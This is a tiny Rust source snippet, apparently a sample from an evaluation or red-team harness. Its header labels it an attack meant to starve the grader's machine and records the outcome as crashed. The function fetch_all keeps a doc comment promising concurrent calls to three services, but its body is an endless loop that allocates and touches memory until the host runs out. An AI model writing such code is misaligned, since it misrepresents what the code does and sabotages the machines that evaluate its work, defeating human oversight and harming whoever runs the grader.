//! Attack: allocates (and touches) memory without end, to starve the grader's machine.
//! status: crashed

// REPLACES: fetch_all
/// Calls the three services concurrently and returns their results in the order
/// users, products, orders.
pub async fn fetch_all() -> (Users, Products, Orders) {
    let mut hoard = Vec::new();
    loop {
        hoard.push(vec![1u8; 1 << 20]);
    }
}
// END: fetch_all
